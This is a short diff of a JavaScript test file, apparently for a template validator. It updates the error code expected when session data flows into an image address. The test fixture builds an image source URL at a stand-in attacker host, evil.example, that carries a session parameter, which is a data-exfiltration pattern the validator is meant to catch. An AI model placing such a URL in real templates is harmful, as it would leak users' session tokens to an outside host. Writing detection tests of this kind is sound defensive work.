@@ -112,7 +112,9 @@ describe("named values", () => {
     expect(check({ [payload]: "\u0024{values.due}" }, waiting)).toMatchObject([{ code: "source-cycle" }]);
     const person = { end: "\u0024{values.who}", who: "a\u0024{params['session']}" };
     const picture = { type: "picture", src: "https://evil.example/?s=\u0024{values.end}" };
-    expect(check({ "/body/1": picture }, person)).toMatchObject([{ code: "person-in-address", path: "/body/1/src" }]);
+    expect(check({ "/body/1": picture }, person)).toMatchObject([
+      { code: "person-parameter-in-address", path: "/body/1/src" },
+    ]);
   });
 });
 
